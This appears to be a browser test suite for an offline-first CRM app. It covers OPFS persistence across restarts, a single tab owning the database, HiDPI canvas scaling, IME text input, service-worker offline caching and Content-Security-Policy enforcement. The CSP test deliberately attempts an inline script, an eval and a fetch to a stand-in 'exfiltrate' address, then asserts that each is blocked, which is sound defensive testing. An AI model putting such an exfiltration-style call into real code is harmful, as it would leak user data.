// What only a browser has: OPFS across restarts, one tab owning the database, HiDPI and
// resizes, the hidden textarea, the offline cache.
import assert from 'node:assert/strict';
import path from 'node:path';
import { test, launchProfile, newProfile, shots, colourStats, hasItem, openApp, findItem, click, focusField, waitFor, signIn, ADMIN, violations } from './browser.mjs';

test('a client created through window.crm.call is still there after the browser restarts', async (url) => {
  const dir = newProfile();
  let ctx = await launchProfile(dir);
  let id;
  try {
    const { page } = await openApp(ctx, url);
    await signIn(page);
    const reply = await page.evaluate(() => window.crm.call('client.create',
      { code: 'PERSIST-1', name: 'Société Pérenne — Île-de-France', email: 'compta@perenne.fr', siret: '73282932000074' }));
    assert.ok(reply.result, JSON.stringify(reply));
    id = reply.result.id;
  } finally {
    await ctx.close();
  }
  ctx = await launchProfile(dir);
  try {
    const { page, errors } = await openApp(ctx, url);
    const refused = await page.evaluate((i) => window.crm.call('client.get', { id: i }), id);
    assert.equal(refused.error.code, 'unauthenticated'); // a new browser signs in again
    await signIn(page);
    const got = await page.evaluate((i) => window.crm.call('client.get', { id: i }), id);
    assert.equal(got.result.name, 'Société Pérenne — Île-de-France');
    assert.equal(got.result.siret, '73282932000074');
    await findItem(page, 'Société Pérenne — Île-de-France'); // and the interface lists it
    assert.deepEqual(errors, []);
  } finally {
    await ctx.close();
  }
});

test('a second tab is told the database is open elsewhere, breaks nothing, and can retry', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const first = await openApp(ctx, url);
    await signIn(first.page);
    await first.page.evaluate(() => window.crm.call('client.create', { code: 'T1', name: 'Onglet un' }));
    const second = await ctx.newPage();
    const secondErrors = [];
    second.on('pageerror', (e) => secondErrors.push(String(e)));
    await second.goto(url);
    await waitFor(second, () => window.crm && window.crm.status() === 'locked' && window.crm.ui.ready());
    const notice = await findItem(second, 'notice:locked');
    assert.match((await second.evaluate(() => window.crm.ui.items()['notice:locked']))[4], /Déjà ouvert dans un autre onglet/);
    assert.ok(notice.rect[2] > 0);
    await findItem(second, 'Réessayer');
    await second.locator('#canvas').screenshot({ path: path.join(shots, 'second-tab.png') });
    const refused = await second.evaluate(() => window.crm.call('client.list', {}));
    assert.equal(refused.error.reason, 'locked');

    // The first tab still works.
    const list = await first.page.evaluate(() => window.crm.call('client.list', {}));
    assert.equal(list.result.total, 1);
    assert.deepEqual(first.errors, []);

    // Close the first tab; the second one retries and takes over.
    await first.page.close();
    await click(second, 'Réessayer');
    await waitFor(second, () => window.crm.status() === 'ready');
    await signIn(second);
    await findItem(second, 'Onglet un');
    assert.deepEqual(secondErrors, []);
  } finally {
    await ctx.close();
  }
});

test('the canvas follows devicePixelRatio and window resizes', async (url) => {
  const ctx = await launchProfile(newProfile(), { width: 900, height: 600 }, 2);
  try {
    const { page, errors } = await openApp(ctx, url);
    await signIn(page);
    const size = () => page.evaluate(() => {
      const c = document.getElementById('canvas');
      return [c.width, c.height, c.clientWidth, c.clientHeight];
    });
    await waitFor(page, () => document.getElementById('canvas').width === 1800);
    assert.deepEqual(await size(), [1800, 1200, 900, 600]);
    await page.setViewportSize({ width: 1100, height: 700 });
    await waitFor(page, () => document.getElementById('canvas').width === 2200);
    assert.deepEqual(await size(), [2200, 1400, 1100, 700]);
    // Widgets are laid out in CSS pixels, so the button stays under the pointer.
    await click(page, 'Nouveau client');
    await findItem(page, '##form-code');
    await page.locator('#canvas').screenshot({ path: path.join(shots, 'clients-hidpi.png') });
    assert.deepEqual(errors, []);
  } finally {
    await ctx.close();
  }
});

test('composed or pasted text arrives whole through the hidden textarea', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const { page } = await openApp(ctx, url);
    await signIn(page);
    await click(page, 'Nouveau client');
    await focusField(page, '##form-code');
    await page.keyboard.insertText('IME-1');          // one input event, as an IME commit or a paste
    await focusField(page, '##form-name');
    await page.keyboard.insertText('Œnologie Bâtie « Légère » – 12 €');
    await page.keyboard.press('Enter');              // Enter in a field saves the form
    await findItem(page, 'Œnologie Bâtie « Légère » – 12 €');
    const r = await page.evaluate(() => window.crm.call('client.list', { search: 'oenologie' }));
    assert.equal(r.result.rows[0].name, 'Œnologie Bâtie « Légère » – 12 €');
    assert.equal(r.result.rows[0].code, 'IME-1');
  } finally {
    await ctx.close();
  }
});

test('open once, then it works with no network: the service worker serves the site', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const { page, errors } = await openApp(ctx, url);
    await signIn(page);
    await page.evaluate(() => window.crm.call('client.create', { code: 'HORS-LIGNE', name: 'Café du Réseau Coupé' }));
    await page.evaluate(() => navigator.serviceWorker.ready);
    await waitFor(page, async () => (await caches.keys()).length > 0 && (await (await caches.open((await caches.keys())[0])).keys()).length >= 11);
    await ctx.setOffline(true);
    await page.reload();
    await waitFor(page, () => window.crm && window.crm.status() === 'ready' && window.crm.ui.ready());
    await findItem(page, 'Café du Réseau Coupé'); // the session survives the reload too
    const r = await page.evaluate(() => window.crm.call('client.create', { code: 'HL-2', name: 'Écrit hors ligne' }));
    assert.ok(r.result, JSON.stringify(r));
    await page.locator('#canvas').screenshot({ path: path.join(shots, 'offline.png') });
    assert.deepEqual(errors.filter((e) => !e.includes('ERR_INTERNET_DISCONNECTED')), []);
  } finally {
    await ctx.close();
  }
});

test('no network at run time: the Content-Security-Policy refuses eval and every other origin', async (url) => {
  const ctx = await launchProfile(newProfile());
  try {
    const { page } = await openApp(ctx, url);
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]').content);
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    assert.doesNotMatch(csp, /'unsafe-eval'|'unsafe-inline'|https?:|\*/);
    // The app itself started under it (the runner fails a test on any violation); now
    // provoke three on purpose, from the page's own tasks (code DevTools runs directly is
    // exempt from the policy).
    const r = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true';
      document.head.appendChild(s);
      let evalRefused = false;
      await new Promise((done) => setTimeout(() => {
        try { (0, eval)('1 + 1'); } catch (e) { evalRefused = e instanceof EvalError; }
        done();
      }, 0));
      let fetchRefused = false;
      try { await fetch('http://192.0.2.1/exfiltrate'); } catch (e) { fetchRefused = true; }
      return { inlineRefused: window.__inlineRan !== true, evalRefused, fetchRefused };
    });
    assert.deepEqual(r, { inlineRefused: true, evalRefused: true, fetchRefused: true });
    assert.ok(violations.some((v) => v.startsWith('CSP:')), 'the refusals were reported as violations');
    violations.length = 0; // provoked above: not the app's doing
  } finally {
    await ctx.close();
  }
});
